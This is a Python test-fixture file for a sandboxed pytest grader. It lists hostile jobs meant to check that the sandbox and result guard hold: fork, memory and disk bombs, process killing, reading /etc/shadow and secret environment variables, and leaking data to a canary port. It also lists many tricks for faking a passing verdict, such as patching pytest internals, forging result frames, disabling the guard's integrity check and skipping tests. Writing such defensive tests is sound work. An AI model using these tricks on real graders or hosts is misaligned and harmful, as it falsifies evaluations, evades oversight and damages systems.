"""The project's own hostile jobs and the host invariants they must leave intact.

Each case is a pytest job that attacks the machine or the verdict. `{port}` is replaced by
the port of a canary TCP listener on the host and `{token}` by a per-run marker, so that
the host checks can look for exactly what a job tried to leave behind.
"""

from __future__ import annotations

import json
import os
import random
import socket
import threading
import uuid
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path

JOB_UID_MIN = 200_000  # the pool's job uids start here (resources/sandbox/pool.py UID_BASE)

FORGED_FRAME = (
    "import json, struct\n"
    "def forged():\n"
    "    body = json.dumps({'nonce': '0' * 32, 'result': {'messages': {}, 'harness_error': None, 'guard': {\n"
    "        'observations': [{'kind': 'collected', 'items': []}], 'denied': [], 'tampered': []}}}).encode()\n"
    "    return struct.pack('>I', len(body)) + body\n"
)

FORGE_OUTCOMES = (
    "def forge(obj):\n"
    "    result = obj.get('result') if isinstance(obj, dict) else None\n"
    "    guard = result.get('guard') if isinstance(result, dict) else None\n"
    "    for o in (guard or {}).get('observations', []):\n"
    "        if o.get('kind') == 'phase':\n"
    "            o['ok'] = True\n"
    "        if o.get('kind') == 'report':\n"
    "            o['outcome'] = 'passed'\n"
    "    if guard:\n"
    "        guard['tampered'] = []\n"
    "    return obj\n"
)

CASES: list[dict] = [
    # --- resources ---------------------------------------------------------------------
    {
        "id": "fork_bomb_os_fork",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "fork_bomb_subprocess",
        "expect": "not_passed",
        "solution": "import subprocess\ndef f():\n    ps = []\n    while True:\n        ps.append(subprocess.Popen(['sleep', '1000']))\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "memory_bomb_list",
        "expect": "not_passed",
        "solution": "def f():\n    xs = []\n    while True:\n        xs.append(' ' * (64 * 1024 * 1024))\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "disk_fill_one_file",
        "expect": "not_passed",
        "solution": "def f():\n    with open('big.bin', 'wb') as fh:\n        while True:\n            fh.write(b'x' * (1 << 20))\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "disk_fill_many_files",
        "expect": "not_passed",
        "solution": "def f():\n    i = 0\n    while True:\n        with open(f'chunk{i}', 'wb') as fh:\n            fh.write(b'x' * (32 << 20))\n        i += 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "cpu_loop_ignoring_signals",
        "expect": "not_passed",
        "solution": "import signal\nfor s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP):\n    signal.signal(s, signal.SIG_IGN)\ndef f():\n    while True:\n        pass\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "deep_recursion_c_stack",
        "expect": "not_passed",
        "solution": "import sys\nsys.setrecursionlimit(10 ** 7)\ndef f(n=0):\n    return f(n + 1) + 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "huge_output",
        "expect": "any",
        "solution": "import os, sys\ndef f():\n    for _ in range(20):\n        sys.stdout.write('x' * 5_000_000)\n        os.write(2, b'y' * 1_000_000)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "raise_limits_back",
        "expect": "not_passed",
        "solution": "import resource\ndef f():\n    resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    # --- the process and its relatives ----------------------------------------------------
    {
        "id": "sigkill_self",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    os.kill(os.getpid(), 9)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "kill_parent",
        "expect": "not_passed",
        "solution": "import os, signal\ndef f():\n    os.kill(os.getppid(), signal.SIGKILL)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "kill_every_process",
        "expect": "not_passed",
        "solution": "import os, signal\ndef f():\n    for pid in range(1, 4096):\n        try:\n            os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n        except OSError:\n            pass\n    os.kill(-1, signal.SIGKILL)\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "kill_process_group",
        "expect": "not_passed",
        "solution": "import os, signal\ndef f():\n    os.killpg(0, signal.SIGKILL)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "daemonised_grandchild",
        "expect": "any",
        "solution": "import os, time\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            for fd in range(3):\n                os.close(fd)\n            time.sleep(3600)\n        os._exit(0)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "grandchild_holds_every_descriptor",
        "expect": "any",
        "solution": "import os, time\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(3600)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "sleeper_processes_via_shell",
        "expect": "any",
        "solution": "import subprocess\ndef f():\n    subprocess.Popen('nohup sleep 3600 >/dev/null 2>&1 &', shell=True)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "read_stdin",
        "expect": "not_passed",
        "solution": "import sys\ndef f():\n    return sys.stdin.readline() + input()\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 'x'\n",
    },
    {
        "id": "segfault",
        "expect": "not_passed",
        "solution": "import faulthandler\ndef f():\n    faulthandler._sigsegv()\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "alarm_kills_self",
        "expect": "not_passed",
        "solution": "import signal, time\ndef f():\n    signal.signal(signal.SIGALRM, signal.SIG_DFL)\n    signal.alarm(1)\n    time.sleep(2)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "become_root",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    os.setuid(0)\n    return os.getuid()\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 0\n",
    },
    # --- network and secrets ------------------------------------------------------------------
    {
        "id": "tcp_to_host_canary",
        "expect": "not_passed",
        "solution": "import socket\ndef f():\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n    s.sendall(b'leak')\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "dns_lookup",
        "expect": "not_passed",
        "solution": "import socket\ndef f():\n    return socket.getaddrinfo('example.com', 80)\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f()\n",
    },
    {
        "id": "udp_out",
        "expect": "not_passed",
        "solution": "import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    return s.sendto(b'x', ('8.8.8.8', 53))\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "env_secrets",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    return os.environ.get('ASSAY_CANARY_SECRET', '') + os.environ.get('OPENAI_API_KEY', '')\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() != '', f()\n",
    },
    {
        "id": "proc_environ_of_others",
        "expect": "not_passed",
        "solution": "def f():\n    out = ''\n    for pid in ('1', '2', 'self'):\n        out += open(f'/proc/{pid}/environ').read()\n    return out\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert 'SECRET' in f()\n",
    },
    {
        "id": "read_host_files",
        "expect": "not_passed",
        "solution": "import glob\ndef f():\n    paths = glob.glob('/tmp/assay-canary*/*') + ['/etc/shadow', '/root/.bash_history', '/etc/passwd']\n    return [open(p).read() for p in paths]\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert len(f()) >= 3\n",
    },
    {
        "id": "write_outside_scratch",
        "expect": "any",
        "solution": "import glob, os\ndef f():\n    n = 0\n    for p in ['/tmp/assay-pwned-{token}', '/work/assay-pwned-{token}', '/root/assay-pwned-{token}',\n              '/usr/assay-pwned-{token}', os.path.expanduser('~/assay-pwned-{token}') + '-home']:\n        try:\n            open(p, 'w').write('x')\n            n += 1\n        except OSError:\n            pass\n    for p in glob.glob('/tmp/assay-canary*/*'):\n        try:\n            os.remove(p)\n        except OSError:\n            pass\n    return n\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    # --- the verdict: exits, fake output, the result channel ----------------------------------
    {
        "id": "os_exit_zero_in_test",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    os._exit(0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n    assert False\n",
    },
    {
        "id": "sys_exit_zero_in_test",
        "expect": "not_passed",
        "solution": "import sys\ndef f():\n    sys.exit(0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "sys_exit_at_import",
        "expect": "not_passed",
        "solution": "import sys\nsys.exit(0)\n",
        "tests": "from solution import *\n\ndef test_f():\n    assert False\n",
    },
    {
        "id": "pytest_exit_returncode_zero",
        "expect": "not_passed",
        "solution": "import pytest\ndef f():\n    pytest.exit('all good', returncode=0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n\ndef test_g():\n    assert False\n",
    },
    {
        "id": "fake_summary_lines",
        "expect": "not_passed",
        "solution": "import os, sys\ndef f():\n    print('=' * 20 + ' 5 passed in 0.01s ' + '=' * 20)\n    os.write(1, b'PASSED\\n1 passed\\n')\n    sys.stderr.write('OK\\n')\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "forge_frames_on_every_fd_then_exit",
        "expect": "not_passed",
        "solution": FORGED_FRAME
        + "import os\ndef f():\n    for fd in range(3, 1024):\n        try:\n            os.write(fd, forged())\n        except OSError:\n            pass\n    os._exit(0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "forge_frames_then_fail_normally",
        "expect": "not_passed",
        "solution": FORGED_FRAME
        + "import os\ndef f():\n    for fd in range(3, 1024):\n        try:\n            os.write(fd, forged())\n        except OSError:\n            pass\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "close_every_fd",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    os.closerange(0, 65536)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "dup2_devnull_over_every_fd",
        "expect": "not_passed",
        "solution": "import os\ndef f():\n    null = os.open('/dev/null', os.O_WRONLY)\n    for fd in range(3, 1024):\n        if fd != null:\n            try:\n                os.dup2(null, fd)\n            except OSError:\n                pass\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 2\n",
    },
    {
        "id": "atexit_exit_zero",
        "expect": "not_passed",
        "solution": "import atexit, os\natexit.register(lambda: os._exit(0))\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    # --- tampering with pytest ------------------------------------------------------------
    {
        "id": "patch_call_and_report",
        "expect": "not_passed",
        "solution": "import _pytest.runner as r\nfrom _pytest.reports import TestReport\ndef fake(item, when, log=True, **kw):\n    rep = TestReport(item.nodeid, item.location, {}, 'passed', None, when, [], 0.0)\n    if log:\n        item.ihook.pytest_runtest_logreport(report=rep)\n    return rep\nr.call_and_report = fake\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "patch_function_runtest_class",
        "expect": "not_passed",
        "solution": "import _pytest.python\n_pytest.python.Function.runtest = lambda self: None\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "patch_items_through_request",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_a(request):\n    for item in request.session.items:\n        item.runtest = lambda: None\n\ndef test_b():\n    assert f() == 1\n",
    },
    {
        "id": "drop_failing_items",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_a(request):\n    del request.session.items[1:]\n\ndef test_b():\n    assert f() == 1\n",
    },
    {
        "id": "patch_pytest_approx",
        "expect": "not_passed",
        "solution": "import pytest\nclass Any:\n    def __eq__(self, other):\n        return True\npytest.approx = lambda *a, **k: Any()\ndef f():\n    return 0.0\n",
        "tests": "import pytest\nfrom solution import f\n\ndef test_f():\n    assert f() == pytest.approx(3.0)\n",
    },
    {
        "id": "patch_pytest_raises",
        "expect": "not_passed",
        "solution": "import contextlib, pytest\n@contextlib.contextmanager\ndef raises(*a, **k):\n    try:\n        yield\n    except BaseException:\n        pass\npytest.raises = raises\ndef f(x):\n    return x\n",
        "tests": "import pytest\nfrom solution import f\n\ndef test_f():\n    with pytest.raises(ValueError):\n        f(-1)\n",
    },
    {
        "id": "swap_pytest_in_sys_modules",
        "expect": "not_passed",
        "solution": "import sys, types\nfake = types.ModuleType('pytest')\nclass Any:\n    def __eq__(self, other):\n        return True\nfake.approx = lambda *a, **k: Any()\nsys.modules['pytest'] = fake\ndef f():\n    return 0.0\n",
        "tests": "from solution import f\nimport pytest\n\ndef test_f():\n    assert f() == pytest.approx(3.0)\n",
    },
    {
        "id": "patch_testreport_class",
        "expect": "not_passed",
        "solution": "from _pytest.reports import TestReport\nTestReport.failed = property(lambda self: False)\nTestReport.passed = property(lambda self: True)\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "register_reporting_plugin",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "import pytest\nfrom solution import f\n\ndef test_a(request):\n    class P:\n        @pytest.hookimpl(wrapper=True, tryfirst=True)\n        def pytest_runtest_call(self, item):\n            try:\n                yield\n            except BaseException:\n                return None\n    request.config.pluginmanager.register(P(), 'p')\n\ndef test_b():\n    assert f() == 1\n",
    },
    {
        "id": "call_observer_directly",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_a(request):\n    obs = [p for p in request.config.pluginmanager.get_plugins() if type(p).__name__ == 'Observer'][0]\n    for item in request.session.items:\n        for phase in ('setup', 'call', 'teardown'):\n            g = obs._phase(item, phase)\n            next(g)\n            try:\n                next(g)\n            except StopIteration:\n                pass\n\ndef test_b():\n    assert f() == 1\n",
    },
    {
        "id": "gc_hunt_for_the_nonce",
        "expect": "not_passed",
        "solution": "import gc\ndef f():\n    return len([o for o in gc.get_objects() if isinstance(o, str) and len(o) == 32])\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() >= 0\n",
    },
    {
        "id": "frame_walk_for_the_nonce",
        "expect": "not_passed",
        "solution": FORGED_FRAME
        + "import os, sys, re\ndef f():\n    found = set()\n    frame = sys._getframe()\n    while frame is not None:\n        for v in list(frame.f_locals.values()):\n            if isinstance(v, str) and re.fullmatch('[0-9a-f]{32}', v):\n                found.add(v)\n        frame = frame.f_back\n    for fd in range(3, 1024):\n        try:\n            os.write(fd, forged())\n        except OSError:\n            pass\n    os._exit(0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    f()\n",
    },
    {
        "id": "traceback_frames",
        "expect": "not_passed",
        "solution": "def f():\n    try:\n        raise ValueError\n    except ValueError as e:\n        return e.__traceback__.tb_frame.f_back\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() is not None\n",
    },
    {
        "id": "settrace",
        "expect": "not_passed",
        "solution": "import sys\ndef f():\n    sys.settrace(lambda *a: None)\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "ctypes_memory",
        "expect": "not_passed",
        "solution": "import ctypes\ndef f():\n    return ctypes.string_at(id(f), 8)\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f()\n",
    },
    {
        "id": "spoofed_library_code",
        "expect": "not_passed",
        "solution": "import threading, os\ncode = compile('import gc\\nleak = len(gc.get_objects())', os.__file__, 'exec')\ndef f():\n    ns = {{}}\n    t = threading.Thread(target=exec, args=(code, ns))\n    t.start(); t.join()\n    return ns.get('leak', 0)\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() > 0\n",
    },
    {
        "id": "drop_a_conftest_at_import",
        "expect": "not_passed",
        "solution": "open('conftest.py', 'w').write('import pytest\\n@pytest.hookimpl(wrapper=True)\\ndef pytest_runtest_call(item):\\n    try:\\n        yield\\n    except BaseException:\\n        return None\\n')\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "breakpoint_waits_for_a_debugger",
        "expect": "not_passed",
        "solution": "def f():\n    breakpoint()\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    # --- disarming the guard itself -----------------------------------------------------
    {
        "id": "rebind_the_guards_integrity_check",
        "expect": "not_passed",
        "solution": "import assay_runtime.guard as g\ng._changed_attributes = lambda *a, **k: []\ng.tampered_attributes = lambda *a, **k: []\nimport _pytest.python\n_pytest.python.Function.runtest = lambda self: None\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "rebind_a_name_the_guard_looks_up",
        "expect": "not_passed",
        "solution": "import assay_runtime.guard as g\ng.is_ = lambda a, b: True\nimport _pytest.python\n_pytest.python.Function.runtest = lambda self: None\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "rewrite_the_result_frame_in_the_encoder",
        "expect": "not_passed",
        "solution": FORGE_OUTCOMES
        + "import assay_runtime.protocol as p\n_real = p.encode\np.encode = lambda obj: _real(forge(obj))\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "rewrite_the_result_frame_in_json",
        "expect": "not_passed",
        "solution": FORGE_OUTCOMES
        + "import json\n_real = json.dumps\njson.dumps = lambda obj, **k: _real(forge(obj), **k)\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "lie_through_builtins",
        "expect": "not_passed",
        "solution": "import builtins\nbuiltins.id = lambda o: 0\nbuiltins.vars = lambda *a: {}\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_a(request):\n    for item in request.session.items:\n        item.runtest = lambda: None\n\ndef test_b():\n    assert f() == 1\n",
    },
    {
        "id": "edit_an_observation_after_it_was_made",
        "expect": "not_passed",
        "solution": "import sys, threading, time\ndef f():\n    records = []\n    frame = sys._getframe()\n    while frame is not None:\n        for v in list(frame.f_locals.values()):\n            if type(v) is dict and v.get('kind') == 'phase':\n                records.append(v)\n        frame = frame.f_back\n    def later():\n        for _ in range(200):\n            for r in records:\n                r['ok'] = True\n            time.sleep(0.001)\n    threading.Thread(target=later, daemon=True).start()\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "swap_a_trusted_class_s_bases",
        "expect": "not_passed",
        "solution": "import _pytest.python as P, _pytest.nodes as N\nclass Relay:\n    def __getattr__(self, name):\n        return lambda **kw: None\nclass Evil(N.Item):\n    ihook = property(lambda self: Relay())\nP.Function.__bases__ = (P.PyobjMixin, Evil)\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "change_a_trusted_function_s_defaults",
        "expect": "not_passed",
        "solution": "import _pytest.runner as r\nr.call_and_report.__defaults__ = (False,)\ndef f():\n    return 0\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    # --- skip and xfail tricks ------------------------------------------------------------
    {
        "id": "module_level_skip",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "import pytest\npytest.skip('later', allow_module_level=True)\nfrom solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "pytestmark_skip",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "import pytest\nfrom solution import f\npytestmark = pytest.mark.skip\n\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "xfail_everything",
        "expect": "not_passed",
        "solution": "def f():\n    return 0\n",
        "tests": "import pytest\nfrom solution import f\n\n@pytest.mark.xfail(reason='x')\ndef test_f():\n    assert f() == 1\n",
    },
    {
        "id": "skip_from_solution",
        "expect": "not_passed",
        "solution": "import pytest\ndef f():\n    pytest.skip('cannot be checked')\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
    # --- benign controls --------------------------------------------------------------------
    {
        "id": "control_pass",
        "expect": "passed",
        "solution": "def f(x):\n    return x * 2\n",
        "tests": "from solution import f\n\ndef test_f(tmp_path):\n    (tmp_path / 'a').write_text('a')\n    assert f(2) == 4\n",
    },
    {
        "id": "control_fail",
        "expect": "failed",
        "solution": "def f(x):\n    return x * 3\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f(2) == 4\n",
    },
    {
        "id": "control_monkeypatched_builtins",
        "expect": "passed",
        "solution": "def f():\n    return int(input()) + 1\n",
        "tests": "from solution import f\n\ndef test_f(monkeypatch, capsys):\n    monkeypatch.setattr('builtins.input', lambda: '4')\n    print('hi')\n    assert f() == 5\n    assert capsys.readouterr().out == 'hi\\n'\n",
    },
    {
        "id": "control_threads_left_running",
        "expect": "passed",
        "solution": "import threading, time\ndef f():\n    threading.Thread(target=time.sleep, args=(3600,)).start()\n    return 1\n",
        "tests": "from solution import f\n\ndef test_f():\n    assert f() == 1\n",
    },
]


def job_for(case: dict, port: int, token: str) -> dict:
    def fill(text: str) -> str:
        return text.replace("{port}", str(port)).replace("{token}", token)

    return {
        "id": case["id"],
        "kind": "pytest",
        "solution_code": fill(case["solution"]),
        "test_code": fill(case["tests"]),
    }


def meets(expect: str, status: str) -> bool:
    return {
        "not_passed": status != "passed",
        "passed": status == "passed",
        "failed": status == "failed",
    }.get(expect, True)


@dataclass
class Host:
    """Canaries on the host: files, a TCP listener, secrets in the environment, a marker token."""

    token: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    secrets: dict[str, str] = field(default_factory=dict)
    connections: int = 0
    canary_dir: Path | None = None
    canary_files: dict[Path, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.canary_dir = Path(f"/tmp/assay-canary-{self.token}")
        self.canary_dir.mkdir(mode=0o755)
        for name in ("secret.txt", "keep.txt"):
            path = self.canary_dir / name
            content = f"canary {name} {self.token}"
            path.write_text(content)
            path.chmod(0o644)
            self.canary_files[path] = content
        self.secrets = {
            "ASSAY_CANARY_SECRET": f"SECRET-{uuid.uuid4().hex}",
            "OPENAI_API_KEY": f"sk-canary-{uuid.uuid4().hex}",
        }
        self._saved = {k: os.environ.get(k) for k in self.secrets}
        os.environ.update(self.secrets)
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(16)
        self.listener.settimeout(0.2)
        self.port = self.listener.getsockname()[1]
        os.environ["CANARY_PORT"] = str(self.port)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.listener.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def violations(self, results: list[dict], uids: Iterable[int]) -> list[str]:
        """Every host invariant that does not hold (empty when the host is intact)."""
        out = []
        for path, content in self.canary_files.items():
            if not path.exists() or path.read_text() != content:
                out.append(f"canary {path} was changed or removed")
        for root in (
            "/tmp",
            str(Path(__file__).resolve().parents[3].parent),
            "/root",
            "/usr",
            os.path.expanduser("~"),
        ):
            try:
                names = os.listdir(root)
            except OSError:
                continue
            out += [
                f"{root}/{n} was written by a job"
                for n in names
                if f"assay-pwned-{self.token}" in n
            ]
        if self.connections:
            out.append(f"the canary listener got {self.connections} connection(s)")
        blob = json.dumps(results)
        out += [f"secret {k} appears in a result" for k, v in self.secrets.items() if v in blob]
        out += [f"process {pid} started by a job is alive" for pid in job_processes(uids)]
        return out

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.listener.close()
        for key, value in self._saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
        os.environ.pop("CANARY_PORT", None)
        for path in self.canary_files:
            path.unlink(missing_ok=True)
        if self.canary_dir is not None:
            self.canary_dir.rmdir()


def job_processes(uids: Iterable[int] | None = None) -> list[int]:
    """Host processes owned by the given job uids (default: any uid from JOB_UID_MIN up).

    Other sandboxes may run on the same host at the same time, so checks pass their own uids.
    """
    wanted = set(uids) if uids is not None else None
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/status") as fh:
                for line in fh:
                    if line.startswith("Uid:"):
                        uid = int(line.split()[1])
                        if (uid in wanted) if wanted is not None else uid >= JOB_UID_MIN:
                            out.append(int(name))
                        break
        except OSError:
            continue
    return out


def shuffled(items: list, seed: int = 0) -> list:
    items = list(items)
    random.Random(seed).shuffle(items)
    return items
